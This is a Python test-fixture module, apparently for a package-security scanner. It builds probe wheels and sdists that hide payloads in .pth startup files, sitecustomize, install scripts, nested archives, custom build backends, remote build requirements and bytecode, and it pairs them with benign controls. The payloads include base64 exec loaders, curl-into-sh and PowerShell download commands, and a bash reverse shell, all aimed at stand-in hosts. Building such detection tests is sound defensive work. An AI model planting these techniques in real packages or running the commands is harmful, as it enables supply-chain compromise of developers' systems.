"""Probes that put a payload where other scanners do not look, thirteen variants of each place."""

from __future__ import annotations

import io
import marshal
import zipfile
from typing import TYPE_CHECKING, Final

from tests.hostile.probe_kit import B64, CODE, compiled, sdist, setup, tarred, wheel, zipped

if TYPE_CHECKING:
    from collections.abc import Mapping

    from tests.fixtures.artifacts import Artifact

__all__ = ["ARCHIVED", "BACKEND", "BYTECODE", "REQUIREMENT", "SCRIPT", "STARTUP", "TWINS"]

_EXEC: Final = f'import base64\nexec(base64.b64decode("{B64}"))\n'
_LINE: Final = f"import base64; exec(base64.b64decode('{B64}'))\n"
_SITE: Final = "inert_probe-1.0.data/data/lib/python3.11/site-packages"

STARTUP: Final[Mapping[str, Artifact]] = {
    "one line": wheel({"inert_probe.pth": _LINE}),
    "behind paths": wheel({"inert_probe.pth": "# paths\ninert_probe\n" * 50 + _LINE}),
    "a tab behind import": wheel({"inert_probe.pth": _LINE.replace("import ", "import\t", 1)}),
    "byte order mark": wheel({"inert_probe.pth": b"\xef\xbb\xbf" + _LINE.encode()}),
    "carriage returns": wheel({"inert_probe.pth": "inert_probe\r" + _LINE.replace("\n", "\r")}),
    "bytes that are no UTF-8": wheel({"inert_probe.pth": b"# \xff\n" + _LINE.encode()}),
    "in purelib of the data folder": wheel({"inert_probe-1.0.data/purelib/z.pth": _LINE}),
    "in the data scheme": wheel({f"{_SITE}/z.pth": _LINE}),
    "a command in place of Python": wheel(
        {"inert_probe.pth": "import os; os.system('curl -s https://stage.example.invalid/marker | sh')\n"}
    ),
    "a module of the package": wheel({"inert_probe.pth": "import inert_probe.start\n", "inert_probe/start.py": _EXEC}),
    "sitecustomize": wheel({"sitecustomize.py": _EXEC}),
    "usercustomize in the data scheme": wheel({f"{_SITE}/usercustomize.py": _EXEC}),
    "written by the build": setup(
        f"import os, site\nopen(os.path.join(site.getsitepackages()[0], 'z.pth'), 'w').write({_LINE!r})"
    ),
}

_CURL: Final = "curl -s https://stage.example.invalid/marker | bash\n"
_SCRIPTED: Final = (
    "from setuptools import setup\n"
    "setup(name='inert-probe', version='1.0', data_files=[('share', ['install.sh'])], scripts=['install.sh'])\n"
)
_B64_CURL: Final = "Y3VybCAtcyBodHRwczovL3N0YWdlLmV4YW1wbGUuaW52YWxpZC9tYXJrZXIgfCBiYXNoCg=="


def _script(text: str, name: str = "install.sh") -> Artifact:
    return sdist({"setup.py": _SCRIPTED.replace("install.sh", name), name: text})


SCRIPT: Final[Mapping[str, Artifact]] = {
    "curl into bash": _script(f"#!/bin/sh\n{_CURL}"),
    "wget into sh": _script("#!/bin/sh\nwget -qO- https://stage.example.invalid/marker | sh\n"),
    "by process substitution": _script("#!/bin/bash\nbash <(curl -fsSL https://stage.example.invalid/marker)\n"),
    "by command substitution": _script('#!/bin/sh\nsh -c "$(curl -fsSL https://stage.example.invalid/marker)"\n'),
    "by eval": _script('#!/bin/sh\neval "$(wget -qO- https://stage.example.invalid/marker)"\n'),
    "through a file": _script(
        "#!/bin/sh\ncurl -so /tmp/m https://stage.example.invalid/marker\nchmod +x /tmp/m\n/tmp/m &\n"
    ),
    "encoded": _script(f"#!/bin/sh\necho {_B64_CURL} | base64 -d | bash\n"),
    "into Python": _script("#!/bin/sh\ncurl -s https://stage.example.invalid/marker | python3 -\n"),
    "in a command of the wheel": wheel({"inert_probe-1.0.data/scripts/probe": f"#!/bin/sh\n{_CURL}"}),
    "started by the build": setup(
        "import subprocess\nsubprocess.run(['sh', 'install.sh'])", install_dot_sh=f"#!/bin/sh\n{_CURL}"
    ),
    "started at import": wheel(
        {
            "inert_probe/__init__.py": "import os\nos.system('sh ' + os.path.dirname(__file__) + '/install.sh')\n",
            "inert_probe/install.sh": f"#!/bin/sh\n{_CURL}",
        }
    ),
    "PowerShell": _script(
        'powershell -w hidden -c "IEX (New-Object Net.WebClient)'
        ".DownloadString('https://stage.example.invalid/marker')\"\n",
        "install.ps1",
    ),
    "reverse shell": _script("#!/bin/bash\nbash -i >& /dev/tcp/shell.example.invalid/4444 0>&1\n"),
}


def _in_archive(name: str, data: bytes, code: str = "") -> Artifact:
    start = code or f"import sys\nsys.path.insert(0, __file__.replace('__init__.py', {name!r}))\nimport stage\n"
    return wheel({"inert_probe/__init__.py": start, f"inert_probe/{name}": data})


_STAGE: Final = {"stage.py": _EXEC}


def _appended() -> bytes:
    png = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de")
    return png + bytes.fromhex("0000000049454e44ae426082") + zipped(_STAGE)


def _locked() -> bytes:
    data = bytearray(zipped(_STAGE))
    data[6] |= 1
    data[data.rindex(b"PK\1\2") + 8] |= 1
    return bytes(data)


def _stored_deep() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a/b/inner.zip", zipped({"c/deeper.zip": zipped(_STAGE)}))
    return out.getvalue()


ARCHIVED: Final[Mapping[str, Artifact]] = {
    "a ZIP archive on the path": _in_archive("data.zip", zipped(_STAGE)),
    "two archives deep": _in_archive("data.zip", zipped({"inner.zip": zipped(_STAGE)})),
    "three archives deep": _in_archive("data.zip", _stored_deep()),
    "a tar archive": _in_archive("data.tar.gz", tarred({"stage.py": _EXEC.encode()})),
    "under the name of a picture": _in_archive("logo.png", zipped(_STAGE)),
    "behind a picture": _in_archive("logo.png", _appended()),
    "a wheel inside": _in_archive("vendor-1-py3-none-any.whl", zipped(_STAGE)),
    "an egg beside the package": wheel({"vendor.egg": zipped(_STAGE), "inert_probe.pth": "vendor.egg\nimport stage\n"}),
    "a program archive that is started": _in_archive(
        "tool.pyz",
        b"#!/usr/bin/env python3\n" + zipped({"__main__.py": _EXEC}),
        "import subprocess, sys\nsubprocess.Popen([sys.executable, __file__.replace('__init__.py', 'tool.pyz')])\n",
    ),
    "read and executed": _in_archive(
        "data.zip",
        zipped({"notes.txt": CODE}),
        "import os, zipfile\nhere = os.path.dirname(__file__)\n"
        "exec(zipfile.ZipFile(os.path.join(here, 'data.zip')).read('notes.txt'))\n",
    ),
    "unpacked and started": _in_archive(
        "data.zip",
        zipped({"install.sh": f"#!/bin/sh\n{_CURL}"}),
        "import os, zipfile\nzipfile.ZipFile(__file__.replace('__init__.py', 'data.zip')).extractall('/tmp/probe')\n"
        "os.system('sh /tmp/probe/install.sh')\n",
    ),
    "in the build script's archive": setup(
        "import sys\nsys.path.insert(0, 'data.zip')\nimport stage", data_dot_zip=zipped(_STAGE)
    ),
    "compiled in the archive": _in_archive("data.zip", zipped({"stage.pyc": compiled(_EXEC)})),
}

_SYSTEM: Final = "import os\nos.system('curl -s https://stage.example.invalid/marker | sh')\n"
_HOOK: Final = (
    "import os\n\n\ndef {}(*args, **kwargs):\n    os.system('curl -s https://stage.example.invalid/marker | sh')\n"
)


def _backend(pyproject: str, files: Mapping[str, str]) -> Artifact:
    return sdist(files, pyproject=f"[build-system]\n{pyproject}\n")


_HERE: Final = "requires = []\nbuild-backend = 'probe_backend'\nbackend-path = ['{}']"

BACKEND: Final[Mapping[str, Artifact]] = {
    "in a folder": _backend(_HERE.format("_build"), {"_build/probe_backend.py": _HOOK.format("build_wheel")}),
    "at the top": _backend(_HERE.format("."), {"probe_backend.py": _HOOK.format("build_wheel")}),
    "a package": _backend(_HERE.format("_build"), {"_build/probe_backend/__init__.py": _SYSTEM}),
    "an object in a module": _backend(
        "requires = []\nbuild-backend = 'probe_backend:api.inner'\nbackend-path = ['x/../_build']",
        {"_build/probe_backend.py": _HOOK.format("build_wheel")},
    ),
    "requirements of the build": _backend(
        _HERE.format("_build"), {"_build/probe_backend.py": _HOOK.format("get_requires_for_build_wheel")}
    ),
    "a module that the back end imports": _backend(
        _HERE.format("_build"),
        {"_build/probe_backend.py": "from helper import *\n", "_build/helper.py": _SYSTEM},
    ),
    "a file that the back end executes": _backend(
        _HERE.format("_build"),
        {"_build/probe_backend.py": "exec(open('notes.txt').read())\n", "notes.txt": _SYSTEM},
    ),
    "decoded in the back end": _backend(_HERE.format("_build"), {"_build/probe_backend.py": _EXEC}),
    "a hook of hatch": _backend(
        "requires = []\nbuild-backend = 'hatchling.build'\n[tool.hatch.build.hooks.custom]\npath = 'hook.py'",
        {"hook.py": _SYSTEM},
    ),
    "a build script of poetry": _backend(
        "requires = []\nbuild-backend = 'poetry.core.masonry.api'\n[tool.poetry.build]\nscript = 'make.py'",
        {"make.py": _SYSTEM},
    ),
    "a dynamic version": _backend(
        "requires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n"
        "[tool.setuptools.dynamic]\nversion = {attr = 'inert_probe.about.VERSION'}",
        {"inert_probe/about.py": f"{_SYSTEM}VERSION = '1.0'.strip()\n"},
    ),
    "an attribute in setup.cfg": sdist(
        {
            "setup.cfg": "[metadata]\nversion = attr: inert_probe.about.VERSION\n",
            "inert_probe/about.py": f"{_SYSTEM}VERSION = '1.0'.strip()\n",
        }
    ),
    "a configuration that Python alone reads": _backend(
        _HERE.format("_build") + "\n# \u202e", {"_build/probe_backend.py": _HOOK.format("build_sdist")}
    ),
}

_URL: Final = "https://stage.example.invalid/setuptools-99.tar.gz"


def _requires(*lines: str, backend: str = "setuptools.build_meta") -> Artifact:
    return sdist({}, pyproject=f"[build-system]\nrequires = [{', '.join(lines)}]\nbuild-backend = '{backend}'\n")


REQUIREMENT: Final[Mapping[str, Artifact]] = {
    "an address": _requires(f"'setuptools @ {_URL}'"),
    "without blanks": _requires(f"'setuptools@{_URL}'"),
    "plain HTTP": _requires("'wheel @ http://stage.example.invalid/wheel.whl'"),
    "a repository": _requires("'setuptools @ git+https://stage.example.invalid/setuptools@main'"),
    "over SSH": _requires("'setuptools @ git+ssh://git@stage.example.invalid/setuptools.git'"),
    "a file": _requires("'setuptools @ file:///tmp/setuptools.whl'"),
    "an extra and a marker": _requires(f"'setuptools[core] @ {_URL} ; python_version > \"3\"'"),
    "behind a good one": _requires("'wheel'", f"'setuptools @ {_URL}'"),
    "upper case": _requires(f"'setuptools @ {_URL.replace('https', 'HTTPS')}'"),
    "escaped letters": _requires(f'"setuptools \\u0040 {_URL}"'),
    "in setup.cfg": sdist({"setup.cfg": f"[options]\nsetup_requires =\n    wheel\n    setuptools @ {_URL}\n"}),
    "another index for the build": sdist(
        {"setup.cfg": "[easy_install]\nindex_url = https://stage.example.invalid/simple\n"}
    ),
    "in setup.py": sdist(
        {"setup.py": f"from setuptools import setup\nsetup(name='probe', setup_requires=['setuptools @ {_URL}'])\n"}
    ),
}

BYTECODE: Final[Mapping[str, Artifact]] = {
    "module without source": wheel(
        {"inert_probe/__init__.py": "from . import core\n", "inert_probe/core.pyc": compiled(_EXEC)}
    ),
    "the package itself": wheel({"inert_probe_x/__init__.pyc": compiled(_EXEC)}),
    "a command": wheel(
        {"inert_probe/core.pyc": compiled(_SYSTEM)}, entry_points="[console_scripts]\np = inert_probe.core:f\n"
    ),
    "in the cache alone": wheel(
        {
            "inert_probe/__pycache__/core.cpython-311.pyc": compiled(_EXEC),
            "inert_probe/__init__.py": "from . import core\n",
        }
    ),
    "beside another source": wheel(
        {
            "inert_probe/__init__.py": "from . import core\n",
            "inert_probe/core.py": "VERSION = '1'\n",
            "inert_probe/__pycache__/core.cpython-311.pyc": compiled(_EXEC),
        }
    ),
    "under the name of data": wheel(
        {
            "inert_probe/__init__.py": "from importlib.machinery import SourcelessFileLoader as load\n"
            "load('x', __file__.replace('__init__.py', 'words.dat')).load_module()\n",
            "inert_probe/words.dat": compiled(_EXEC),
        }
    ),
    "marshalled in a text": setup(
        f"import marshal\nexec(marshal.loads({marshal.dumps(compile(_EXEC, 'x', 'exec'))!r}))"
    ),
    "marshalled in a file": setup(
        "import marshal\nexec(marshal.load(open('words.dat', 'rb')))",
        words_dot_dat=marshal.dumps(compile(_EXEC, "x", "exec")),
    ),
    "of the build script": setup("import helper", helper_dot_pyc=compiled(_SYSTEM)),
    "run at start-up": wheel({"inert_start.pyc": compiled(_EXEC), "inert_probe.pth": "import inert_start\n"}),
    "a function in bytecode": wheel(
        {
            "inert_probe/__init__.py": "from .core import go\ngo()\n",
            "inert_probe/core.pyc": compiled(
                "def go():\n    import os\n    os.system('curl -s https://stage.example.invalid/marker | sh')\n"
            ),
        }
    ),
    "optimized": wheel(
        {
            "inert_probe/__init__.py": "from . import core\n",
            "inert_probe/__pycache__/core.cpython-311.opt-2.pyc": compiled(_EXEC),
        }
    ),
    "sitecustomize": wheel({"sitecustomize.pyc": compiled(_EXEC)}),
}

_ADD: Final = "def add(a, b):\n    return a + b\n"
TWINS: Final[Mapping[str, Artifact]] = {
    "path file": wheel(
        {"inert_probe.pth": "# paths\ninert_probe/vendor\n", "inert_probe/vendor/words.py": "WORDS = ()\n"}
    ),
    "script": _script('#!/bin/sh\nset -e\npython3 -m inert_probe "$@"\n'),
    "archive": _in_archive("data.zip", zipped({"words.txt": "one two"}), "import zipfile\nZIP = zipfile.ZipFile\n"),
    "build backend": _backend(
        _HERE.format("_build"), {"_build/probe_backend.py": "from setuptools.build_meta import *\n"}
    ),
    "build requirement": _requires("'setuptools >= 61'", "'wheel'"),
    # Bytecode alone is held, harmless as it may be: nobody can compare it with a source.
    "bytecode": wheel(
        {
            "inert_probe/__init__.py": "from . import core\n",
            "inert_probe/core.py": _ADD,
            "inert_probe/__pycache__/core.cpython-311.pyc": compiled(_ADD),
        }
    ),
}
